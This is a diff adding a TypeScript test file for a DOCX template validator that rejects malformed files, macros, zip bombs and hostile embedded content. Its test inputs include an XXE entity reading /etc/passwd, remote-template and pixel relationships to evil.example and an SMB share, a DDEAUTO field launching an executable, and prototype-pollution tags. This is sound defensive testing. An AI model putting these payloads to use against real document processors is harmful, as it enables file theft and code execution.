@@ -1,0 +1,233 @@
+import { documentTexts } from '@markaz/protocol/centre/files/routes'
+import { AppError } from '@markaz/protocol/errors'
+import { describe, expect, it } from 'vitest'
+import { checkTemplate } from './check-template.ts'
+import { docxOf, docxWith } from './testing/contract-kit.ts'
+
+const verdict = async (bytes: Buffer | Promise<Buffer>) =>
+  checkTemplate(await bytes).then(
+    () => 'good',
+    (error: unknown) => {
+      if (!(error instanceof AppError)) throw error
+      return [error.code, error.fields?.file]
+    },
+  )
+
+const relations = (...inside: string[]) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside.join('')}</Relationships>`
+const relation = (kind: string, target: string, mode = 'External') =>
+  `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/>`
+const withRelation = (text: string) => docxWith({ 'word/_rels/other.xml.rels': relations(text) })
+const declaring = (override: string) => (xml: string) => xml.replace('</Types>', `${override}</Types>`)
+
+const onlyDocx = ['FILE_TYPE', documentTexts.type]
+const outside = [
+  'FILE_TYPE',
+  "Hujjatda tashqi fayl yoki manzildan yuklanadigan qism bor. Uni o'chirib yoki hujjat ichiga joylab, qaytadan saqlang",
+]
+
+describe('what is no DOCX', () => {
+  it.each([
+    ['nothing at all', Buffer.alloc(0)],
+    ['random bytes', Buffer.from('9d2f7a11c0ffee', 'hex')],
+    ['a picture', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')],
+    ['an old DOC', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
+    ['a zip of something else', docxWith({ '[Content_Types].xml': null })],
+    ['a zip whose document is missing', docxWith({ 'word/document.xml': null })],
+    ['a spreadsheet', docxWith({ '[Content_Types].xml': (xml) => xml.replace('wordprocessingml', 'spreadsheetml') })],
+    [
+      'a document with macros, whatever it is called',
+      docxWith({
+        '[Content_Types].xml': (xml) =>
+          xml.replace(
+            'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
+            'application/vnd.ms-word.document.macroEnabled.main+xml',
+          ),
+      }),
+    ],
+    [
+      'a document that declares a macro part',
+      docxWith({
+        '[Content_Types].xml': declaring(
+          '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+        ),
+        'word/vbaProject.bin': Buffer.from('x'),
+      }),
+    ],
+    [
+      'a document that declares it in character references',
+      docxWith({
+        '[Content_Types].xml': declaring(
+          '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#x50;roject"/>',
+        ),
+      }),
+    ],
+    [
+      'a document that only relates to macros',
+      withRelation(
+        "<x:Relationship xmlns:x='…' Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='a.bin'/>",
+      ),
+    ],
+    [
+      'a document whose text lies under another name',
+      docxWith({
+        '[Content_Types].xml': (xml) => xml.replace('/word/document.xml', '/word/document.txt'),
+        'word/document.txt': '<w:document/>',
+      }),
+    ],
+  ])('%s is refused as not DOCX', async (_, bytes) => {
+    expect(await verdict(bytes)).toEqual(onlyDocx)
+  })
+
+  it('a DOCX cut short, changed inside, or not written in UTF-8 is broken', async () => {
+    const good = docxOf('{number} va boshqa gaplar')
+    const changed = Buffer.from(good)
+    const at = changed.indexOf('word/document.xml') + 'word/document.xml'.length + 20
+    changed[at] = (changed[at] as number) ^ 0xff
+    for (const bytes of [
+      Buffer.from('PKsalom'),
+      good.subarray(0, good.length - 30),
+      good.subarray(0, 200),
+      changed,
+      docxWith({ 'word/document.xml': Buffer.from('<w:document/>', 'utf16le') }),
+      docxWith({ 'word/document.xml': Buffer.from([0x3c, 0xff, 0xfe, 0x3e]) }),
+      docxWith({ 'word/document.xml': '<?xml version="1.0" encoding="utf-7"?><w:document/>' }),
+      docxWith({
+        'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document>&b;</w:document>',
+      }),
+      docxWith({ 'word/settings.xml': '<!-- never ends' }),
+      docxWith({ 'word/settings.xml': '<w:settings a="' }),
+    ]) {
+      expect(await verdict(bytes)).toEqual(['FILE_BROKEN', undefined])
+    }
+  })
+})
+
+describe('a zip bomb', () => {
+  it('is too large before it is unpacked: one huge part, many parts, a huge text', async () => {
+    const many = Object.fromEntries(Array.from({ length: 1_001 }, (_, i) => [`word/media/${i}.txt`, 'x']))
+    for (const bytes of [
+      docxWith({ 'word/media/a.bin': Buffer.alloc(51 * 1_048_576) }),
+      docxWith({ 'word/media/a.bin': Buffer.alloc(26 * 1_048_576), 'word/media/b.bin': Buffer.alloc(26 * 1_048_576) }),
+      docxWith(many),
+      docxWith({ 'word/comments.xml': Buffer.alloc(5 * 1_048_576, ' ') }),
+    ]) {
+      expect((await bytes).length).toBeLessThan(300_000)
+      expect(await verdict(bytes)).toEqual(['FILE_TOO_LARGE', undefined])
+    }
+  })
+
+  it('that says it is small is broken, and what it hides is not unpacked', async () => {
+    const bytes = await docxWith({ 'word/media/a.bin': Buffer.alloc(30 * 1_048_576) })
+    // The size stands 24 bytes into its line of the central directory, 46 long before the name.
+    const line = bytes.lastIndexOf('word/media/a.bin') - 46
+    bytes.writeUInt32LE(10, line + 24)
+    const before = process.memoryUsage().rss
+    expect(await verdict(bytes)).toEqual(['FILE_BROKEN', undefined])
+    expect(process.memoryUsage().rss - before).toBeLessThan(25 * 1_048_576)
+  })
+
+  it('of braces, which cost the engine more than bytes, is refused at once', async () => {
+    expect(await verdict(docxOf('{'.repeat(1_000_000)))).toEqual([
+      'TEMPLATE_BROKEN',
+      "Qavslar juda ko'p: { va } faqat belgilar uchun",
+    ])
+  })
+})
+
+describe('what would be fetched or started', () => {
+  it.each([
+    ['a template on a server', withRelation(relation('attachedTemplate', 'https://evil.example/a.dotm'))],
+    ['a template on a share', withRelation(relation('attachedTemplate', 'file://evil/share/a.dotm'))],
+    ['a template on a share, in backslashes', withRelation(relation('attachedTemplate', '\\\\evil\\share\\a.dotm'))],
+    ['a picture from outside', withRelation(relation('image', 'http://evil.example/pixel.png'))],
+    ['a frame from outside', withRelation(relation('frame', 'http://evil.example/', 'eXternal'))],
+    ['an embedded object', withRelation(relation('oleObject', 'embeddings/a.bin', 'Internal'))],
+    ['another document in it', withRelation(relation('aFChunk', 'a.html', 'Internal'))],
+    [
+      'a field that starts a program',
+      docxWith({
+        'word/document.xml': (xml) =>
+          xml.replace(
+            '<w:sectPr>',
+            '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\a.exe</w:instrText></w:r></w:p><w:sectPr>',
+          ),
+      }),
+    ],
+    [
+      'a field that fetches a picture',
+      docxWith({
+        'word/header1.xml':
+          '<w:hdr><w:p><w:fldSimple w:instr=" INCLUDE&#80;ICTURE http://evil.example "/></w:p></w:hdr>',
+      }),
+    ],
+  ])('%s is refused with what to do', async (_, bytes) => {
+    expect(await verdict(bytes)).toEqual(outside)
+  })
+
+  it('links to pages stay, and the path of the template it was begun from is no trouble', async () => {
+    expect(await verdict(withRelation(relation('hyperlink', 'https://markaz.uz')))).toBe('good')
+    const settings = {
+      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="rId9"/></w:settings>',
+      'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'file:///C:\\Users\\ali\\Maktub.dotx')),
+    }
+    expect(await verdict(docxWith(settings))).toBe('good')
+  })
+})
+
+describe('tags', () => {
+  it('the known ones are taken, also with spaces, split by formatting, and in a header', async () => {
+    const split = docxWith({
+      'word/document.xml': (xml) => xml.replace('{number}', '{num</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>ber}'),
+      'word/header1.xml': '<w:hdr><w:p><w:r><w:t>{date}</w:t></w:r></w:p></w:hdr>',
+    })
+    expect([await verdict(docxOf('{number} { student }', '{price}')), await verdict(split)]).toEqual(['good', 'good'])
+  })
+
+  it.each([
+    ['{name} va {number} va {name} {Student}', "Noma'lum belgilar: {name}, {Student}"],
+    ['{constructor} {__proto__} {toString}', "Noma'lum belgilar: {constructor}, {__proto__}, {toString}"],
+    ['{student.constructor}', "Noma'lum belgilar: {student.constructor}"],
+    ['{student + number}', "Noma'lum belgilar: {student + number}"],
+    ['{#courses}{student}{/courses}', "Noma'lum belgilar: {#courses}"],
+    ['{^student}x{/student}', "Noma'lum belgilar: {^student}"],
+    ['{@student}', "Noma'lum belgilar: {@student}"],
+    ['{=[[ ]]=}[[student]]', "Noma'lum belgilar: {=[[ ]]=}"],
+    ['{}', "Noma'lum belgilar: {}"],
+    [
+      '{a}{b}{c}{d}{e}{f}{g}{h}{i}{j}{k}{l}',
+      "Noma'lum belgilar: {a}, {b}, {c}, {d}, {e}, {f}, {g}, {h}, {i}, {j} va yana 2 ta",
+    ],
+    ['{student', 'Xato yozilgan belgilar: {student (yopilmagan)'],
+    ['student}', 'Xato yozilgan belgilar: student} (ochilmagan)'],
+    ['{#student}', 'Xato yozilgan belgilar: {#student}'],
+    ['{/student}', 'Xato yozilgan belgilar: {/student}'],
+  ])('%s is refused by name', async (text, words) => {
+    expect(await verdict(docxOf(text))).toEqual(['TEMPLATE_BROKEN', words])
+  })
+
+  it('are found in a document that declares its text for every part without a name', async () => {
+    const declared = (xml: string) =>
+      xml
+        .replace(/<Override PartName="\/word\/document.xml"[^>]*>/, '')
+        .replace(
+          '"application/xml"',
+          '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"',
+        )
+    expect(await verdict(docxWith({ '[Content_Types].xml': declared }))).toBe('good')
+    expect(await verdict(docxWith({ '[Content_Types].xml': declared }, ['{ism}']))).toEqual([
+      'TEMPLATE_BROKEN',
+      "Noma'lum belgilar: {ism}",
+    ])
+  })
+
+  it('an unknown one in a footer is found, too', async () => {
+    const bytes = docxWith({
+      '[Content_Types].xml': declaring(
+        '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/>',
+      ),
+      'word/footer1.xml': '<w:ftr><w:p><w:r><w:t>{phone}</w:t></w:r></w:p></w:ftr>',
+    })
+    expect(await verdict(bytes)).toEqual(['TEMPLATE_BROKEN', "Noma'lum belgilar: {phone}"])
+  })
+})
